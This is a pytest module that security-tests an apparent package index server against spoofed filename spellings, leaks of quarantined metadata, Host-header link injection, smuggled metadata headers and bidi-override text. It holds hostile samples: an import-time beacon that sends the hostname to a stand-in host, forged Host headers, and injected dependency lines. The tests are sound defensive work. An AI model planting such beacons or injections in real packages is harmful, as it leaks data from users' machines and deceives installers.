"""Hostile uploads and requests around a file's identity and its metadata (issue 12, items 4, 8, 9,
12 and 14), each test named after the attack it replays:

- other spellings of a published or removed file (name case and separators, `1.0` vs `1.0.0`,
  tag order, legacy manylinux names) cannot replace or revive it, even racing each other;
- nothing from a file held for review reaches a public answer (summary, Requires-Python,
  description, name spelling, version);
- the JSON API's absolute links never come from the request's Host header;
- core metadata with a repeated single-use field is refused; what Palisade reads from METADATA is
  what Python's email parser (pip, uv) reads;
- Requires-Python must be PEP 440 specifiers; yank reasons are plain one-line text; descriptions
  are bounded, and big JSON API answers are cached and compressed.
"""

from __future__ import annotations

import gzip
import sqlite3
from dataclasses import dataclass

import pytest

from distbuilder import SdistBuilder, WheelBuilder
from support import HTML_V1, JSON_V1, eventually, http_session
from test_concurrency import race

USER = "meta-owner"

# Makes the scanner hold a file for review (a network call at import time), as in test_scanning.
BEACON_INIT = (
    "import socket\n"
    "import urllib.request\n"
    "urllib.request.urlopen('https://telemetry.example.invalid/ping?h=' + socket.gethostname())\n"
)


@dataclass
class RawMetaWheel(WheelBuilder):
    """A wheel whose METADATA is exactly `metadata`."""

    metadata: str = ""

    def metadata_text(self) -> str:
        return self.metadata


@dataclass
class RawMetaSdist(SdistBuilder):
    """An sdist whose PKG-INFO is exactly `metadata`."""

    metadata: str = ""

    def metadata_text(self) -> str:
        return self.metadata


def meta(name: str, version: str, *lines: str, body: str = "") -> str:
    head = ["Metadata-Version: 2.1", f"Name: {name}", f"Version: {version}", *lines]
    return "\n".join(head) + "\n\n" + body


@pytest.fixture(scope="module")
def owner(server):
    acct = server.create_user(USER)
    return {**acct, "token": server.create_token(USER)}


def upload(server, owner, builder, filename: str | None = None, content: bytes | None = None):
    content = builder.to_bytes() if content is None else content
    filename = filename or builder.filename or builder.default_filename()
    return server.upload_raw(owner["token"], filename, content, name=builder.name, version=builder.version)


def assert_no_orphans(server) -> None:
    """tmp/ is empty and files/ holds exactly the blobs of stored files (listed or held), so a
    refused upload left nothing behind."""

    def check():
        assert server.tmp_entries() == [], server.tmp_entries()
        with sqlite3.connect(f"file:{server.data_dir / 'palisade.db'}?mode=ro", uri=True) as db:
            stored = {row[0] for row in db.execute("SELECT sha256 FROM files")}
        assert set(server.blob_files()) == stored

    eventually(check)


def assert_refused(r, *fragments: str) -> None:
    assert r.status_code == 400, f"{r.status_code}: {r.text}"
    assert r.headers["content-type"].startswith("text/plain"), r.headers
    for f in fragments:
        assert f in r.text, f"{f!r} not in {r.text!r}"


# ---- item 4: a file is reserved by what installers take it to be, not by its spelling --------


def test_other_spelling_of_a_published_wheel_is_refused(server, owner, clients, tmp_path):
    original = WheelBuilder("tapir-index", "1.0", summary="the original")
    first = upload(server, owner, original)
    assert first.status_code == 200, first.text
    name = original.default_filename()
    assert name == "tapir_index-1.0-py3-none-any.whl"

    # Other content under every spelling pip would treat as the same file.
    for spelling in (
        "tapir_index-1.0.0-py3-none-any.whl",
        "Tapir_Index-1.0-py3-none-any.whl",
        "tapir.index-1-PY3-none-ANY.whl",
        "tapir__index-1.0-py3.py3-none-any.whl",
    ):
        other = WheelBuilder("tapir-index", "1.0", summary="the replacement", payload=b"other bytes")
        r = upload(server, owner, other, filename=spelling)
        assert_refused(r, "File already exists", f'this release already has "{name}" for the same tags', spelling)

    # The same bytes under another spelling are refused too, naming the spelling to use.
    r = upload(server, owner, original, filename="Tapir_Index-1.0.0-py3-none-any.whl")
    assert_refused(r, "File already exists", name)
    # The same bytes under the same spelling stay an idempotent re-upload (twine --skip-existing).
    assert upload(server, owner, original).status_code == 200
    # twine shows the refusal.
    path = tmp_path / "Tapir_Index-1.0-py3-none-any.whl"
    path.write_bytes(WheelBuilder("tapir-index", "1.0", payload=b"via twine").to_bytes())
    proc = clients.twine_upload(server, owner["token"], path, check=False)
    assert "File already exists" in proc.output, clients.describe(proc)

    assert set(server.project_files("tapir-index")) == {name}
    # pip fetches the original.
    proc = clients.run([clients.bin_dir / "python", "-m", "pip", "download", "--no-deps", "--index-url", server.index_url,
                        "-d", tmp_path / "dl", "tapir-index==1.0"])
    assert proc.returncode == 0, clients.describe(proc)
    fetched = list((tmp_path / "dl").iterdir())
    assert [f.name for f in fetched] == [name]
    assert fetched[0].read_bytes() == original.to_bytes()


def test_second_sdist_spelling_of_a_release_is_refused(server, owner):
    assert upload(server, owner, SdistBuilder("zephyr-kit", "2.0")).status_code == 200
    r = upload(server, owner, SdistBuilder("zephyr-kit", "2.0.0", summary="replacement"))
    assert_refused(r, "File already exists", 'this release already has "zephyr_kit-2.0.tar.gz" as its sdist')
    assert set(server.project_files("zephyr-kit")) == {"zephyr_kit-2.0.tar.gz"}


def test_legacy_manylinux_alias_of_a_published_wheel_is_refused(server, owner):
    modern = WheelBuilder("alias-kit", "1.0", tag="cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64")
    assert upload(server, owner, modern).status_code == 200
    for tag in ("cp311-cp311-manylinux2014_x86_64", "cp311-cp311-manylinux_2_17_x86_64", "CP311-cp311-manylinux2014_x86_64.manylinux_2_17_x86_64"):
        other = WheelBuilder("alias-kit", "1.0", tag=tag, payload=b"other")
        assert_refused(upload(server, owner, other), "File already exists", modern.default_filename())
    assert set(server.project_files("alias-kit")) == {modern.default_filename()}


def test_overlapping_tag_sets_and_build_tags_are_different_files(server, owner):
    """py2.py3 and py3 are different files to an installer (it picks the best match), and a build
    tag makes a new file on purpose (PEP 427): both are accepted, as on PyPI."""
    names = []
    for tag in ("py3-none-any", "py2.py3-none-any", "py3-none-manylinux_2_28_x86_64"):
        w = WheelBuilder("overlap-kit", "1.0", tag=tag)
        assert upload(server, owner, w).status_code == 200, tag
        names.append(w.default_filename())
    build = WheelBuilder("overlap-kit", "1.0", filename="overlap_kit-1.0-1-py3-none-any.whl", payload=b"rebuilt")
    assert upload(server, owner, build).status_code == 200
    names.append(build.filename)
    # ... but a build tag is compared as a number: 01 is 1.
    again = WheelBuilder("overlap-kit", "1.0", filename="overlap_kit-1.0-01-py3-none-any.whl", payload=b"rebuilt again")
    assert_refused(upload(server, owner, again), "File already exists", build.filename)
    assert set(server.project_files("overlap-kit")) == set(names)


def test_removed_filename_cannot_return_under_another_spelling(server, owner):
    wheel = WheelBuilder("zephyrine-tools", "40.0")
    sdist = SdistBuilder("zephyrine-tools", "40.0")
    for b in (wheel, sdist):
        assert upload(server, owner, b).status_code == 200
    for b in (wheel, sdist):
        server.cli("remove-file", b.default_filename())
    eventually(lambda: _assert(server.project_files("zephyrine-tools") == {}))

    for spelling in (
        "Zephyrine_Tools-40.0-py3-none-any.whl",
        "zephyrine_tools-40.0.0-py3-none-any.whl",
        "zephyrine.tools-40.0-py3-none-any.whl",
        "zephyrine_tools-40-py3-none-any.whl",
    ):
        r = upload(server, owner, WheelBuilder("zephyrine-tools", "40.0", payload=b"back again"), filename=spelling)
        assert_refused(r, "File already exists", f'this release had "{wheel.default_filename()}"', "since removed")
    # The same bytes under another spelling do not bring it back either.
    r = upload(server, owner, wheel, filename="Zephyrine_Tools-40.0-py3-none-any.whl")
    assert_refused(r, "File already exists", "since removed")
    r = upload(server, owner, SdistBuilder("zephyrine-tools", "40.0.0"))
    assert_refused(r, "File already exists", f'"{sdist.default_filename()}" as its sdist, since removed')
    assert server.project_files("zephyrine-tools") == {}
    assert_no_orphans(server)


def test_racing_spellings_of_one_file_have_one_winner(server, owner):
    """The reservation is re-checked inside the publishing transaction: spellings of one file
    uploaded at the same moment cannot all pass the early check and all be published."""
    spellings = [
        "racing_spell-1.0-py3-none-any.whl",
        "Racing_Spell-1.0-py3-none-any.whl",
        "racing_spell-1.0.0-py3-none-any.whl",
        "racing.spell-1-py3-none-any.whl",
        "RACING_SPELL-1.0-py3-none-any.whl",
        "racing_spell-1.00-py3-none-any.whl",
    ]
    jobs = []
    for i, s in enumerate(spellings):
        w = WheelBuilder("racing-spell", "1.0", payload=f"variant {i}".encode())
        jobs.append((owner["token"], s, w.to_bytes(), "racing-spell", "1.0"))
    results = race(server, jobs)
    codes = sorted(r.status_code for r in results)
    assert codes == [200] + [400] * (len(jobs) - 1), [(r.status_code, r.text) for r in results]
    for r in results:
        if r.status_code == 400:
            assert "File already exists" in r.text, r.text
    winner = spellings[[r.status_code for r in results].index(200)]
    assert set(server.project_files("racing-spell")) == {winner}
    assert_no_orphans(server)


def test_reservations_made_before_the_upgrade_cover_other_spellings(make_server, tmp_path):
    """A data dir from before filename identities: its reservations get one at start."""
    s = make_server()
    s.create_user("upgrader")
    token = s.create_token("upgrader")
    original = WheelBuilder("upgrade-kit", "3.0")
    r = s.upload_raw(token, original.default_filename(), original.to_bytes(), name="upgrade-kit", version="3.0")
    assert r.status_code == 200, r.text
    s.stop()
    with sqlite3.connect(s.data_dir / "palisade.db") as db:
        db.execute("UPDATE filenames SET identity = NULL")
    s.start()
    other = WheelBuilder("upgrade-kit", "3.0", payload=b"other")
    r = s.upload_raw(token, "Upgrade_Kit-3.0.0-py3-none-any.whl", other.to_bytes(), name="upgrade-kit", version="3.0")
    assert_refused(r, "File already exists", original.default_filename())
    with sqlite3.connect(s.data_dir / "palisade.db") as db:
        assert db.execute("SELECT identity FROM filenames").fetchall() == [("upgrade-kit 3 wheel - py3-none-any",)]


# ---- item 8: nothing from a file held for review in a public answer --------------------------


@pytest.fixture(scope="module")
def held_and_clean(server, owner):
    """Release 1.0: first a wheel the scanner holds (its metadata full of tells), then a clean
    sdist. Release 2.0: only a held wheel."""
    held_meta = meta(
        "Quoll_Tools", "1.0.0", "Summary: HELD-SUMMARY", "Requires-Python: >=3.99", "Author: HELD-AUTHOR",
        "Requires-Dist: held-dependency", "Project-URL: Home, https://held.example", body="HELD-DESCRIPTION\n",
    )
    held = RawMetaWheel("quoll-tools", "1.0.0", metadata=held_meta, init_source=BEACON_INIT)
    r = upload(server, owner, held)
    assert r.status_code == 200, r.text
    clean = RawMetaSdist("quoll-tools", "1.0", metadata=meta(
        "quoll-tools", "1.0", "Summary: clean summary", "Requires-Python: >=3.8", body="clean description\n"))
    r = upload(server, owner, clean)
    assert r.status_code == 200, r.text
    later = RawMetaWheel("quoll-tools", "2.0", init_source=BEACON_INIT,
                         metadata=meta("quoll-tools", "2.0", "Summary: HELD-TWO"))
    assert upload(server, owner, later).status_code == 200
    held_files = {held.default_filename(), later.default_filename()}
    listing = server.cli("quarantine", "list").stdout
    assert all(f in listing for f in held_files), listing
    return {"held": held.default_filename(), "later": later.default_filename(), "clean": clean.default_filename()}


def public_answers(server) -> dict[str, str]:
    answers = {}
    for path, accept in (
        ("/pypi/quoll-tools/json", None),
        ("/pypi/quoll-tools/1.0/json", None),
        ("/pypi/quoll-tools/1.0.0/json", None),
        ("/simple/quoll-tools/", JSON_V1),
        ("/simple/quoll-tools/", HTML_V1),
        ("/simple/", JSON_V1),
    ):
        r = server.get(path, headers={"Accept": accept} if accept else {})
        assert r.status_code == 200, f"{path}: {r.status_code} {r.text}"
        answers[f"{path} {accept}"] = r.text
    return answers


def test_quarantined_summary_is_not_public(server, held_and_clean):
    for where, text in public_answers(server).items():
        for tell in ("HELD", "held-dependency", "held.example", ">=3.99", held_and_clean["held"], held_and_clean["later"]):
            assert tell not in text, f"{tell!r} from a held file is public in {where}"
    projects = server.get("/simple/", headers={"Accept": JSON_V1}).json()["projects"]
    assert {"quoll-tools", "Quoll_Tools"} & {p["name"] for p in projects} == {"quoll-tools"}
    info = server.get("/pypi/quoll-tools/json").json()["info"]
    assert info["summary"] == "clean summary"
    assert info["requires_python"] == ">=3.8"
    assert info["description"].strip() == "clean description"
    assert info["author"] is None and info["requires_dist"] is None and info["project_urls"] is None
    # The project row keeps the spelling of the first (held) upload; the answer does not.
    assert info["name"] == "quoll-tools"
    assert info["version"] == "1.0", "the version as the published file spells it, not the held one's 1.0.0"


def test_release_with_only_held_files_is_not_public(server, held_and_clean):
    assert server.get("/pypi/quoll-tools/2.0/json").status_code == 404
    body = server.get("/pypi/quoll-tools/json").json()
    assert set(body["releases"]) == {"1.0"}
    assert server.simple_json("quoll-tools").json()["versions"] == ["1.0"]
    for f in (held_and_clean["held"], held_and_clean["later"]):
        assert server.get(f"/files/{f}").status_code == 404
        assert server.get(f"/files/{f}.metadata").status_code == 404


def test_held_metadata_shown_to_its_owner_is_not_cached_publicly(server, owner, held_and_clean):
    r = server.get(f"/files/{held_and_clean['held']}.metadata", headers={"Authorization": f"Bearer {owner['session']}"})
    assert r.status_code == 200, r.text
    assert b"HELD-SUMMARY" in r.content
    assert r.headers["cache-control"] == "private, no-store"
    assert "authorization" in r.headers.get("vary", "").lower(), r.headers
    clean = server.get(f"/files/{held_and_clean['clean']}.metadata")
    assert clean.status_code == 200 and "immutable" in clean.headers["cache-control"]


def test_files_of_a_quarantined_project_shown_to_owners_are_not_cached_publicly(server, owner):
    """A published file of a project an administrator quarantined went to its owners as `public,
    max-age=31536000, immutable` with no `Vary`: a shared cache would then hand it to anyone."""
    w = RawMetaWheel("numbat-kit", "1.0", metadata=meta("numbat-kit", "1.0", "Summary: s"))
    assert upload(server, owner, w).status_code == 200
    name = w.default_filename()
    public = server.get(f"/files/{name}")
    assert public.status_code == 200 and "immutable" in public.headers["cache-control"]
    server.cli("project", "status", "numbat-kit", "quarantined", "--reason", "under review")
    auth = {"Authorization": f"Bearer {owner['session']}"}
    for path in (f"/files/{name}", f"/files/{name}.metadata"):
        assert server.get(path).status_code == 404, f"{path} is public while its project is quarantined"
        r = server.get(path, headers=auth)
        assert r.status_code == 200, (path, r.text)
        assert r.headers["cache-control"] == "private, no-store", (path, r.headers)
        assert "authorization" in r.headers.get("vary", "").lower(), (path, r.headers)
        etag = r.headers["etag"]
        again = server.get(path, headers={**auth, "If-None-Match": etag})
        if again.status_code == 304:
            assert again.headers["cache-control"] == "private, no-store", (path, again.headers)


def test_released_file_then_describes_its_release(server, held_and_clean):
    """Once an administrator releases the held file, it is published, and being the earliest
    upload of 1.0 it describes the release, as PyPI's first upload does."""
    server.cli("quarantine", "release", held_and_clean["held"])

    def described():
        info = server.get("/pypi/quoll-tools/1.0/json").json()["info"]
        assert info["summary"] == "HELD-SUMMARY" and info["version"] == "1.0.0", info

    eventually(described)


# ---- item 9: absolute links never come from the request ---------------------------------------


def test_json_api_links_ignore_the_host_header(server, owner):
    w = WheelBuilder("host-kit", "1.0")
    assert upload(server, owner, w).status_code == 200
    s = http_session()
    # The first request (which fills the cache) claims another host; so does a later one.
    for host in ("evil.example", "evil.example:8443", server.url.removeprefix("http://")):
        for path in ("/pypi/host-kit/json", "/pypi/host-kit/1.0/json"):
            r = s.get(server.url + path, headers={"Host": host}, timeout=30)
            assert r.status_code == 200, r.text
            assert "evil" not in r.text, r.text
            body = r.json()
            urls = [body["info"][k] for k in ("package_url", "project_url", "release_url")] + [u["url"] for u in body["urls"]]
            assert all(u.startswith(server.url + "/") for u in urls), urls
            assert "host" not in r.headers.get("vary", "").lower()
    assert s.get(server.url + "/pypi/host-kit/json", timeout=30).json()["urls"][0]["url"] == f"{server.url}/files/{w.default_filename()}"


def test_json_api_and_index_links_use_public_url(make_server):
    s = make_server({"PALISADE_PUBLIC_URL": "https://pypi.example.org/"})
    s.create_user("pub-owner")
    token = s.create_token("pub-owner")
    w = WheelBuilder("public-kit", "1.0")
    assert s.upload_raw(token, w.default_filename(), w.to_bytes(), name="public-kit", version="1.0").status_code == 200
    body = s.get("/pypi/public-kit/json", headers={"Host": "evil.example"}).json()
    assert body["info"]["release_url"] == "https://pypi.example.org/pypi/public-kit/1.0/json"
    assert body["urls"][0]["url"] == f"https://pypi.example.org/files/{w.default_filename()}"
    # Index pages link files under it too (absolute, as PyPI's), whatever Host a request names.
    page = s.get("/simple/public-kit/", headers={"Host": "evil.example", "Accept": "application/vnd.pypi.simple.v1+json"}).json()
    assert page["files"][0]["url"] == f"https://pypi.example.org/files/{w.default_filename()}"
    html = s.get("/simple/public-kit/", headers={"Host": "evil.example", "Accept": "text/html"}).text
    assert f'href="https://pypi.example.org/files/{w.default_filename()}#sha256=' in html and "evil" not in html


# ---- item 12: a single-use field appears once; headers are read as Python reads them ---------


@pytest.mark.parametrize(
    "lines, field, count",
    [
        (["Version: 6.6.6"], "Version", 2),
        (["Name: evil-twin"], "Name", 2),
        (["name: dup-kit"], "Name", 2),
        (["Summary: one", "SUMMARY: two", "summary: three"], "Summary", 3),
        (["Requires-Python: >=3.8", "Requires-Python: >=2.7"], "Requires-Python", 2),
    ],
)
def test_duplicate_version_header_is_refused(server, owner, lines, field, count):
    for builder in (RawMetaWheel("dup-kit", "1.0", metadata=meta("dup-kit", "1.0", *lines)),
                    RawMetaSdist("dup-kit", "1.0", metadata=meta("dup-kit", "1.0", *lines))):
        r = upload(server, owner, builder)
        assert_refused(r, f"core metadata has {count} '{field}' fields; a single-use field must appear once")
    assert server.get("/simple/dup-kit/").status_code == 404
    assert server.get("/pypi/dup-kit/json").status_code == 404
    assert_no_orphans(server)


def test_metadata_line_that_ends_pythons_headers_hides_nothing(server, owner, tmp_path):
    """passlib 1.7.4's PKG-INFO has a Keywords value with bare newlines: Python's email parser
    (pip, uv) ends the headers there and reads the rest as the description. So does Palisade, so
    a Requires-Dist after such a line is not a dependency to anyone."""
    text = meta("keyword-kit", "1.0", "Keywords: password", "crypt md5-crypt", "Requires-Dist: evil-dependency",
                "Summary: hidden")
    w = RawMetaWheel("keyword-kit", "1.0", metadata=text)
    assert upload(server, owner, w).status_code == 200
    info = server.get("/pypi/keyword-kit/json").json()["info"]
    assert info["requires_dist"] is None and info["summary"] is None, info
    assert info["description"].startswith("crypt md5-crypt\nRequires-Dist: evil-dependency"), info["description"]
    served = server.get(f"/files/{w.default_filename()}.metadata").content
    assert served == text.encode()
    import email.parser
    parsed = email.parser.BytesParser().parsebytes(served)
    assert parsed.get_all("Requires-Dist") is None and parsed["Summary"] is None


def test_carriage_return_inside_a_metadata_line_is_refused(server, owner):
    w = RawMetaWheel("cr-kit", "1.0", metadata=meta("cr-kit", "1.0", "Summary: fine\rRequires-Dist: evil-dependency"))
    assert_refused(upload(server, owner, w), "core metadata line 4 contains a carriage return inside the line")


# ---- item 14: Requires-Python, yank reasons, description size --------------------------------


@pytest.mark.parametrize("value", ["python3", ">=3.8;", "3.8+", ">=3.6.*"])
def test_invalid_requires_python_is_refused(server, owner, value):
    w = RawMetaWheel("rp-kit", "1.0", metadata=meta("rp-kit", "1.0", f"Requires-Python: {value}"))
    assert_refused(upload(server, owner, w), f'core metadata has an invalid Requires-Python "{value}"')
    assert server.get("/simple/rp-kit/").status_code == 404


@pytest.fixture(scope="module")
def yankable(server, owner):
    w = WheelBuilder("yank-kit", "1.0")
    assert upload(server, owner, w).status_code == 200
    return w.default_filename()


@pytest.mark.parametrize(
    "reason, fragment",
    [
        ("fixed in 2.0\u202e1.0.2 ni dexif", "a bidirectional embedding or override (U+202E) at character 13"),
        ("see \u2066evil\u2069", "a bidirectional isolate (U+2066)"),
        ("first line\u2028second line", "a line separator (U+2028)"),
        ("first\nsecond", "a line break (U+000A)"),
        ("\x1b[2Jcleared", "a control character (U+001B)"),
        ("x" * 501, "longer than 500 characters"),
    ],
)
def test_yank_reason_with_bidi_override_is_refused(server, owner, yankable, reason, fragment):
    r = server.api("POST", "/api/projects/yank-kit/releases/1.0/yank", owner["session"], json={"reason": reason})
    assert r.status_code == 400, r.text
    assert f"the yank reason contains {fragment}" in r.text or f"the yank reason is {fragment}" in r.text, r.text
    proc = server.cli("yank", "yank-kit", "1.0", "--reason", reason, check=False)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert fragment in proc.stderr, proc.stderr
    assert server.project_files("yank-kit")[yankable]["yanked"] is False


def test_plain_yank_reason_is_kept(server, owner, yankable):
    reason = "Sicherheitslücke: bitte 1.0.1 verwenden (שגיאה)"
    r = server.api("POST", "/api/projects/yank-kit/releases/1.0/yank", owner["session"], json={"reason": reason})
    assert r.status_code == 200, r.text
    assert server.project_files("yank-kit")[yankable]["yanked"] == reason
    r = server.api("POST", "/api/projects/yank-kit/releases/1.0/unyank", owner["session"])
    assert r.status_code == 200, r.text


def test_status_reason_with_bidi_override_is_refused(server, yankable):
    proc = server.cli("project", "status", "yank-kit", "deprecated", "--reason", "use \u202eevil", check=False)
    assert proc.returncode == 1 and "the status reason contains a bidirectional embedding" in proc.stderr, proc.stderr
    assert server.simple_json("yank-kit").json()["project-status"]["status"] == "active"


def test_token_description_with_bidi_override_is_refused(server, owner):
    r = server.api("POST", "/api/account/tokens", owner["session"], json={"description": "ci \u202etoken"})
    assert r.status_code == 400 and "the token description contains a bidirectional embedding or override (U+202E)" in r.text, r.text
    proc = server.cli("token", "create", "--user", USER, "--description", "line\u2028break", check=False)
    assert proc.returncode == 1 and "the token description contains a line separator (U+2028)" in proc.stderr, proc.stderr
    assert "pal_" not in proc.stdout


def test_oversized_description_is_refused(make_server):
    s = make_server({"PALISADE_MAX_DESCRIPTION_BYTES": "100000"})
    s.create_user("desc-owner")
    token = s.create_token("desc-owner")
    big = RawMetaWheel("desc-kit", "1.0", metadata=meta("desc-kit", "1.0", body="d" * 100_001))
    r = s.upload_raw(token, big.default_filename(), big.to_bytes(), name="desc-kit", version="1.0")
    assert_refused(r, "its description (the core metadata's long description) is 100001 bytes; this server accepts at most 100000 bytes")
    assert s.get("/simple/desc-kit/").status_code == 404
    fits = RawMetaWheel("desc-kit", "1.0", metadata=meta("desc-kit", "1.0", body="d" * 99_999))
    assert s.upload_raw(token, fits.default_filename(), fits.to_bytes(), name="desc-kit", version="1.0").status_code == 200


def test_large_description_json_answers_are_cached_and_compressed(server, owner):
    """An 8 MiB description made every JSON API answer 8.4 MB, rendered afresh each time. Now the
    description is bounded (2 MiB by default), the answer is rendered once per change and sent
    gzip-compressed to clients that accept it, with a validator."""
    readme = "".join(f"Line {i}: the quick brown fox jumps over the lazy dog.\n" for i in range(30_000))
    assert 1 << 20 < len(readme) < 2 << 20
    w = RawMetaWheel("readme-kit", "1.0", metadata=meta("readme-kit", "1.0", "Summary: s", body=readme))
    assert upload(server, owner, w).status_code == 200

    def misses() -> int:
        text = server.get("/metrics").text
        return int(next(l.split()[-1] for l in text.splitlines() if l.startswith("palisade_index_cache_misses_total")))

    plain = server.get("/pypi/readme-kit/json", headers={"Accept-Encoding": "identity"})
    assert plain.status_code == 200 and "content-encoding" not in plain.headers
    before = misses()
    zipped = server.get("/pypi/readme-kit/json", headers={"Accept-Encoding": "gzip"}, stream=True)
    raw = zipped.raw.read(decode_content=False)
    assert zipped.headers["content-encoding"] == "gzip" and "accept-encoding" in zipped.headers["vary"].lower()
    assert gzip.decompress(raw) == plain.content
    assert len(raw) * 10 < len(plain.content), (len(raw), len(plain.content))
    assert misses() == before, "the second answer was rendered again instead of served from memory"
    # Conditional requests get a 304 without a body.
    again = server.get("/pypi/readme-kit/json", headers={"If-None-Match": plain.headers["etag"]})
    assert again.status_code == 304 and again.content == b""


def _assert(cond):
    assert cond
